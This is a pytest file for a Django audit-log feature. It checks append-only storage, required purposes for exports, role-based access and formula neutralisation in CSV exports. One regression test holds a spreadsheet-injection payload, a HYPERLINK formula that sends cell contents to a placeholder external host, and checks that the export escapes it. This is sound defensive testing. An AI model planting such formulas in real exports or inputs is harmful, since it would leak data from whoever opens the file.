"""The audit log is append-only, holds ids not values, and needs a purpose for exports."""

import pytest
from django.db import DatabaseError, connection, transaction

from sodsong.audit.models import AppendOnlyError, AuditEvent
from sodsong.audit.services import PurposeRequired, log_action, log_personal_read


def test_an_event_cannot_be_changed_through_the_model(db):
    event = log_action(action="read", object_type="people.person", object_ids=["x"])
    event.purpose = "rewrite history"
    with pytest.raises(AppendOnlyError):
        event.save()
    with pytest.raises(AppendOnlyError):
        event.delete()


@pytest.mark.skipif(
    connection.vendor != "postgresql", reason="database-level guard is PostgreSQL's"
)
def test_the_database_refuses_update_and_delete_of_audit_rows(db):
    event = log_action(action="read", object_type="people.person", object_ids=["x"])
    with pytest.raises(DatabaseError), transaction.atomic():
        AuditEvent.objects.filter(pk=event.pk).update(purpose="rewritten")
    with pytest.raises(DatabaseError), transaction.atomic():
        AuditEvent.objects.filter(pk=event.pk).delete()


def test_an_export_without_a_purpose_is_refused(db):
    with pytest.raises(PurposeRequired):
        log_personal_read(object_type="people.person", object_ids=["a"], export=True)


def test_a_read_outside_the_own_area_needs_a_purpose(db):
    with pytest.raises(PurposeRequired):
        log_personal_read(object_type="people.person", object_ids=["a"], outside_own_area=True)
    event = log_personal_read(
        object_type="people.person",
        object_ids=["a"],
        outside_own_area=True,
        purpose="joint operation 3/2569",
    )
    assert event.purpose == "joint operation 3/2569"


def test_a_read_lists_the_ids_returned_and_counts_them(db):
    event = log_personal_read(object_type="people.person", object_ids=["a", "b", "c"])
    assert event.object_ids == ["a", "b", "c"]
    assert event.object_count == 3


def test_an_empty_read_is_not_logged(db):
    before = AuditEvent.objects.count()
    assert log_personal_read(object_type="people.person", object_ids=[]) is None
    assert AuditEvent.objects.count() == before


def test_province_officer_filters_the_audit_page_and_bulk_reads_stand_out(personas, login):
    from sodsong.core.context import acting_for

    with acting_for(personas.district):  # a reader of the province: the province admin sees it
        log_personal_read(object_type="people.person", object_ids=[str(i) for i in range(60)])
    client = login(personas.province)
    page = client.get("/audit/?bulk=1")
    assert page.status_code == 200
    body = page.content.decode()
    assert "people.person" in body
    assert 'class="badge danger"' in body


def test_district_officer_cannot_open_the_audit_log(personas, login):
    client = login(personas.district)
    assert client.get("/audit/").status_code == 403
    assert client.get("/audit/export.csv?purpose=x").status_code == 403


def test_audit_export_needs_a_purpose_and_is_itself_audited(personas, login):
    client = login(personas.province)
    assert client.get("/audit/export.csv").status_code == 400
    response = client.get("/audit/export.csv?purpose=quarterly+review")
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    assert content.startswith("at,actor,via,action")
    assert AuditEvent.objects.filter(
        action="export", object_type="audit.auditevent", purpose="quarterly review"
    ).exists()


def test_audit_api_is_for_provincial_admins_only(personas, client):
    from sodsong.accounts.services import token_issue

    _, province_token = token_issue(user=personas.province)
    _, district_token = token_issue(user=personas.district)
    ok = client.get("/api/v1/audit/events", headers={"Authorization": f"Bearer {province_token}"})
    assert ok.status_code == 200
    assert ok.json()["count"] > 0
    refused = client.get(
        "/api/v1/audit/events", headers={"Authorization": f"Bearer {district_token}"}
    )
    assert refused.status_code == 403
    assert refused.json()["error"]["code"] == "forbidden"


def test_the_audit_export_neutralises_formulas_in_free_text(personas, login):
    """#17 M10: a purpose such as =HYPERLINK(…) reached the CSV as a live formula."""
    import csv
    import io

    from sodsong.core.context import acting_for

    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    with acting_for(personas.province):
        log_action(action="read", object_type="people.person", object_ids=["a"], purpose=evil)
    response = login(personas.province).get("/audit/export.csv?purpose=-2%2B3")
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content)))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + evil in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
